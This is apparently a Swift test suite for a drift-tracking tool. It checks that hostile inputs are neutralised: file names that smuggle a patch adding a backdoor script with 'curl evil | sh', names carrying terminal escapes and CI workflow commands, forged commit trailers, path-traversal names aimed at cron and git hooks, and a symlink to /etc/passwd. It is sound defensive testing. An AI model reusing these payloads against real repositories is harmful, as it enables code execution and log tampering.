import Foundation
import Testing
@testable import DriftCore
@testable import DriftGit
@testable import DriftSystem

/// Issue 11: the reproductions, each with other names, bytes and paths than the issue's.
@Suite("Trust boundary")
struct TrustBoundaryTests {
    static func exportID(_ r: Run) -> String? { r.out.split(separator: " ").dropFirst(2).first.map(String.init) }

    @Test("1: a name spelling a patch (data dirs, code name) smuggles nothing through git am or drift diff | git apply")
    func smuggledCode() throws {
        let w = try HostileWorld()
        defer { w.dir.remove() }
        let ws = try w.workspace("a")
        try sh("echo 'PATCHED = True' >> worker/util.py", cwd: ws.root)
        let spell = "\n---\n\ndiff --git a/app/backdoor.sh b/app/backdoor.sh\nnew file mode 100755\n--- /dev/null\n"
            + "+++ b/app/backdoor.sh\n@@ -0,0 +1 @@\n+curl evil | sh\n"
        #expect(makeFile(root: ws.root, Array(("packages/models/v2" + spell + "/w.bin").utf8), [0x31]))
        #expect(makeFile(root: ws.root,
                         Array(("worker/h" + spell.replacingOccurrences(of: "/", with: "\u{2215}")).utf8),
                         Array("x = 1\n".utf8)))
        let out = w.dir.sub("out")
        let ex = try w.run(["export", "--output", out], ws)
        try #require(ex.code == 0, "\(ex.err)")
        let clone = w.dir.sub("clone")
        try sh("git clone -q '\(w.upstream)' '\(clone)' && cd '\(clone)'"
               + " && git checkout -q HEAD~1 && git am -q '\(out)/drift.patch'")
        #expect(!FileManager.default.fileExists(atPath: clone + "/app/backdoor.sh"))
        #expect(Trailers(try sh("git -C '\(clone)' log -1 --format=%B")).values("Drift-Id")
                == [Self.exportID(ex) ?? "?"])
        let diff = try w.run(["diff"], ws)
        let applied = w.dir.sub("applied")
        try sh("git clone -q '\(w.upstream)' '\(applied)' && git -C '\(applied)' checkout -q HEAD~1")
        try Data(diff.out.utf8).write(to: URL(fileURLWithPath: w.dir.sub("d.patch")))
        try sh("git apply '\(w.dir.sub("d.patch"))'", cwd: applied)
        #expect(!FileManager.default.fileExists(atPath: applied + "/app/backdoor.sh"))
        #expect(try sh("git status --porcelain", cwd: applied).contains("worker/util.py"))
    }

    @Test("1: a name carrying another host's Drift-Id does not reconcile that host's drift")
    func gateBypassByName() throws {
        let w = try HostileWorld()
        defer { w.dir.remove() }
        let ledger = w.dir.sub("ledger")
        let wsB = try w.workspace("b")
        try sh("echo 'B = 2' >> worker/main.py", cwd: wsB.root)
        let idB = try #require(Self.exportID(try w.run(["export", "--output", ledger + "/b"], wsB, host: "node-b")))
        let wsA = try w.workspace("a")
        #expect(makeFile(root: wsA.root, Array("worker/q\r\nDrift-Id: \(idB)\r\nDrift-Host: node-b\r\nz.py".utf8),
                         [0x23, 0x0A]))
        try #require(try w.run(["export", "--output", ledger + "/a"], wsA).code == 0)
        let up = w.dir.sub("up")
        try sh("git clone -q '\(w.upstream)' '\(up)' && cd '\(up)'"
               + " && git checkout -q -b rev HEAD~1 && git am -q '\(ledger)/a/drift.patch'")
        let g = try drift(["gate", "--repo", up, "--ledger", ledger, "--commit", "rev"])
        #expect(g.code == 1, "\(g.out)\(g.err)")
        #expect(g.out.contains("MISSING  drift \(idB) from node-b"), "\(g.out)")
    }

    @Test("1: escape sequences and workflow commands in names reach no terminal and no CI log raw")
    func terminalAndCIInjection() throws {
        let w = try HostileWorld()
        defer { w.dir.remove() }
        let ws = try w.workspace("a")
        #expect(makeFile(root: ws.root, Array("worker/\u{1B}[2J\u{1B}]8;;http://x\u{07}ok\u{9B}1m.py".utf8), [0x23]))
        #expect(makeFile(root: ws.root, Array("worker/n\n::add-mask::x\n::stop-commands::zz\n.py".utf8), [0x24]))
        let ledger = w.dir.sub("ledger")
        try #require(try w.run(["export", "--output", ledger + "/a"], ws).code == 0)
        let text = try w.run(["scan"], ws)
        #expect(text.out.contains("suspicious names: 2"), "\(text.out)")
        let json = try w.run(["scan", "--format", "json"], ws)
        let flagged = files((try? JSONSerialization.jsonObject(with: Data(json.out.utf8))) as? [String: Any] ?? [:])
            .filter { ($0["flags"] as? [String])?.contains("suspicious-name") == true }
        #expect(flagged.count == 2, "\(json.out)")
        let status = try w.run(["status"], ws)
        let gate = try drift(["gate", "--repo", w.upstream, "--ledger", ledger, "--commit", "HEAD~1"],
                             env: ["GITHUB_ACTIONS": "true"])
        #expect(gate.code == 1)
        for r in [text, json, status, gate] { #expect(rawControlLines(r.out + r.err).isEmpty, "\(r.out)") }
        #expect(gate.out.split(separator: "\n").filter { $0.hasPrefix("::") }
            .allSatisfy { $0.hasPrefix("::error file=") })
    }

    @Test("2: a Drift-Id line outside the trailer block, or on a commit outside REV, reconciles nothing")
    func forgedTrailers() throws {
        let w = try HostileWorld()
        defer { w.dir.remove() }
        let ws = try w.workspace("a")
        try sh("echo 'FIX = 3' >> worker/util.py", cwd: ws.root)
        let ledger = w.dir.sub("ledger")
        let id = try #require(Self.exportID(try w.run(["export", "--output", ledger + "/a"], ws)))
        let up = w.dir.sub("up")
        try sh("git clone -q '\(w.upstream)' '\(up)'")
        let body = "docs: notes\n\nDrift-Id: \(id)\n\nThe line above is prose, not a trailer.\n"
        try Data(body.utf8).write(to: URL(fileURLWithPath: w.dir.sub("msg")))
        try sh("git commit -q --allow-empty -F '\(w.dir.sub("msg"))'", cwd: up)
        try sh("git checkout -q -b side && git commit -q --allow-empty -m 'side' -m 'Drift-Id: \(id)'"
               + " && git checkout -q main", cwd: up)
        let g = try drift(["gate", "--repo", up, "--ledger", ledger])
        #expect(g.code == 1, "\(g.out)")
        let onSide = try drift(["gate", "--repo", up, "--ledger", ledger, "--commit", "side"])
        #expect(onSide.code == 0 && onSide.out.contains("its Drift-Id trailer"), "\(onSide.out)")
        let t = Trailers("s\n\nb\n\nKey: v\nDrift-Id: \(id)\nDrift-Id: other\n")
        #expect(t.values("drift-id") == [id, "other"] && t.single("Drift-Id") == nil && t.single("Key") == "v")
    }

    @Test("3: --public-key works for scan, export and gate --image-root; openssl agrees")
    func publicKey() throws {
        let w = try HostileWorld()
        defer { w.dir.remove() }
        let k = w.dir.sub("k.pem"), pub = w.dir.sub("pub.pem")
        try sh("openssl genpkey -algorithm ed25519 -out '\(k)' && openssl pkey -in '\(k)' -pubout -out '\(pub)'")
        let rootfs = w.dir.sub("rootfs")
        try sh("mkdir -p '\(rootfs)/srv' && cp -a '\(w.base)' '\(rootfs)/srv/app'")
        let mdir = rootfs + "/etc/drift"
        let bake = try drift(["manifest", "create", "--root", rootfs + "/srv/app", "--repo", w.upstream,
                              "--commit", "HEAD~1",
                              "--sign-key", k, "--output", mdir])
        try #require(bake.code == 0, "\(bake.err)")
        let v = try run(["openssl", "pkeyutl", "-verify", "-pubin", "-inkey", pub, "-rawin",
                         "-in", mdir + "/manifest.txt", "-sigfile", mdir + "/manifest.sig"])
        #expect(v.code == 0)
        let state = w.dir.sub("state")
        let common = ["--manifest", mdir, "--state", state, "--public-key", pub]
        #expect(try drift(["scan"] + common).code == 0)
        let g = try drift(["gate", "--image-root", rootfs, "--workspace", "/srv/app", "--public-key", pub])
        #expect(g.code == 0, "\(g.out)\(g.err)")
        try sh("echo 'K = 1' >> '\(rootfs)/srv/app/worker/util.py'")
        let ex = try drift(["export", "--output", w.dir.sub("out")] + common)
        #expect(ex.code == 0, "\(ex.err)")
        // In process, with the heap churned between loads: the BIO must never see freed memory.
        let message = try readWholeFile(mdir + "/manifest.txt")
        let sig = try readWholeFile(mdir + "/manifest.sig")
        for i in 0..<64 {
            let churn = (0..<32).map { [UInt8](repeating: UInt8(truncatingIfNeeded: $0 &+ i), count: 64 + $0 * 31) }
            #expect(try Ed25519.verify(message, signature: sig, keyFile: pub), "round \(i), \(churn.count)")
        }
    }

    @Test("4: the Drift-Id is the same whatever a secret's content; no hash of it leaves in the export")
    func secretNotAnOracle() throws {
        let w = try HostileWorld()
        defer { w.dir.remove() }
        var ids: [String] = []
        for (n, value) in ["4821", "4822"].enumerated() {
            let ws = try w.workspace("s\(n)")
            try sh("printf 'TOKEN=placeholder\\nMINIO_SECRET=\(value)\\n' > .env && echo 'OK = 1' >> worker/util.py",
                   cwd: ws.root)
            let out = w.dir.sub("out\(n)")
            let ex = try w.run(["export", "--output", out], ws)
            ids.append(try #require(Self.exportID(ex)))
            let envHash = try SHA256Hasher.digest(try readWholeFile(ws.root + "/.env")).hex
            for file in ["drift.patch", "drift.bundle", "report.json"] {
                let text = String(decoding: try readWholeFile(out + "/" + file), as: UTF8.self)
                #expect(!text.contains(envHash) && !text.contains("MINIO_SECRET=\(value)"), "\(file)")
            }
        }
        #expect(ids[0] == ids[1])
    }

    @Test("5: code holding a secret (copy, hard link, embedded value) is withheld as `secret content` everywhere")
    func secretsByContent() throws {
        let w = try HostileWorld()
        defer { w.dir.remove() }
        let ws = try w.workspace("a")
        let minio = "mK9#vQ2-zR7pL0wX", db = "pg-\(UInt32.random(in: 0...UInt32.max))-s3cr3t"
        try sh("""
            printf '# prod\\nTOKEN=placeholder\\nexport MINIO_SECRET_KEY="\(minio)"\\nPIN=4821\\n' > .env
            printf 'DB_PASSWORD=\(db)\\n' > .env.production
            cp .env worker/config.py && ln .env worker/settings.py
            printf 'import os\\nDSN = "postgres://app:\(db)@db/app"\\n' > worker/db.py
            printf 'CODE = 4821\\n' > worker/short.py && echo 'FIX = 1' >> worker/util.py
            """, cwd: ws.root)
        let json = try w.run(["scan", "--format", "json"], ws)
        let report = (try? JSONSerialization.jsonObject(with: Data(json.out.utf8))) as? [String: Any] ?? [:]
        let flagged = Set(files(report).filter { ($0["flags"] as? [String])?.contains("secret-content") == true }
            .compactMap { $0["path"] as? String })
        #expect(flagged == ["worker/config.py", "worker/settings.py", "worker/db.py"], "\(json.out)")
        #expect(try w.run(["scan"], ws).out.contains("[secret content]"))
        let out = w.dir.sub("out")
        try #require(try w.run(["export", "--output", out], ws).code == 0)
        let diff = try w.run(["diff"], ws)
        #expect(diff.out.contains("worker/db.py: added, content withheld (secret content)"), "\(diff.out)")
        let patch = String(decoding: try readWholeFile(out + "/drift.patch"), as: UTF8.self)
        #expect(patch.contains("worker/settings.py") && patch.contains("content withheld: secret content"))
        #expect(patch.contains("CODE = 4821") && patch.contains("FIX = 1"), "short values and honest code still go")
        let journal = try sh("git --git-dir='\(ws.state)/journal.git' show refs/heads/journal")
            + (try sh("git --git-dir='\(ws.state)/journal.git' grep -I -h -e . refs/heads/journal"))
        let bundle = String(decoding: try readWholeFile(out + "/drift.bundle"), as: UTF8.self)
        for secret in [minio, db] {
            for (what, text) in [("patch", patch), ("diff", diff.out), ("journal", journal), ("json", json.out),
                                 ("bundle", bundle)] {
                #expect(!text.contains(secret), "\(what) holds a secret value")
            }
        }
    }

    @Test("6: quoted .. in drift.patch, a symlinked or oversized patch, and an image workspace outside ROOTFS exit 2")
    func gateHardening() throws {
        let w = try HostileWorld()
        defer { w.dir.remove() }
        let ws = try w.workspace("a")
        try sh("echo 'G = 1' >> worker/util.py", cwd: ws.root)
        let ledger = w.dir.sub("ledger")
        try #require(try w.run(["export", "--output", ledger + "/e1"], ws).code == 0)
        let patch = ledger + "/e1/drift.patch"
        let good = try readWholeFile(patch)
        let evil = ["\"b/sub/\\056\\056/\\056\\056/etc/cron.d/x\"", "\"b/\\056GiT/hooks/post-checkout\""]
        for name in evil {
            let tail = "diff --git \(name.replacingOccurrences(of: "\"b/", with: "\"a/")) \(name)\n"
                + "new file mode 100644\n"
                + "--- /dev/null\n+++ \(name)\n@@ -0,0 +1 @@\n+x\n"
            try Data(good + Array(tail.utf8)).write(to: URL(fileURLWithPath: patch))
            let g = try drift(["gate", "--repo", w.upstream, "--ledger", ledger])
            #expect(g.code == 2 && g.err.hasPrefix("drift: ledger entry e1: drift.patch names an unsafe path"),
                    "\(g.err)")
        }
        // A removed line "-- x" reads "--- x" in a hunk: content, not a path.
        try Data(good).write(to: URL(fileURLWithPath: patch))
        #expect(try drift(["gate", "--repo", w.upstream, "--ledger", ledger]).code == 1)
        try FileManager.default.removeItem(atPath: patch)
        try FileManager.default.createSymbolicLink(atPath: patch, withDestinationPath: "/etc/passwd")
        let link = try drift(["gate", "--repo", w.upstream, "--ledger", ledger])
        #expect(link.code == 2 && link.err.contains("ledger entry e1: drift.patch"), "\(link.err)")
        try FileManager.default.removeItem(atPath: patch)
        try sh("truncate -s 65M '\(patch)'")
        let big = try drift(["gate", "--repo", w.upstream, "--ledger", ledger])
        #expect(big.code == 2 && big.err.contains("ledger entry e1: drift.patch is over"), "\(big.err)")
        try FileManager.default.removeItem(atPath: patch)
        try sh("rm '\(ledger)/e1/report.json' && mkfifo '\(ledger)/e1/report.json'")
        let fifo = try drift(["gate", "--repo", w.upstream, "--ledger", ledger], timeout: 30)
        #expect(fifo.code == 2 && fifo.err.contains("ledger entry e1: report.json"), "\(fifo.err)")

        let rootfs = w.dir.sub("rootfs")
        try sh("mkdir -p '\(rootfs)/srv' && cp -a '\(w.base)' '\(rootfs)/srv/app' && ln -s /etc/ssl '\(rootfs)/srv/out'"
               + " && ln -s app '\(rootfs)/srv/in'")
        let bake = try drift(["manifest", "create", "--root", rootfs + "/srv/app", "--repo", w.upstream,
                              "--commit", "HEAD~1",
                              "--output", rootfs + "/etc/drift"])
        try #require(bake.code == 0)
        for outside in ["/../../../../etc/ssl", "/srv/out", "srv/app/../../.."] {
            let g = try drift(["gate", "--image-root", rootfs, "--workspace", outside])
            #expect(g.code == 2 && g.err.hasPrefix("drift: workspace ") && g.out.isEmpty,
                    "\(outside): \(g.out)\(g.err)")
        }
        #expect(try drift(["gate", "--image-root", rootfs, "--workspace", "/srv/in"]).code == 0)
    }
}
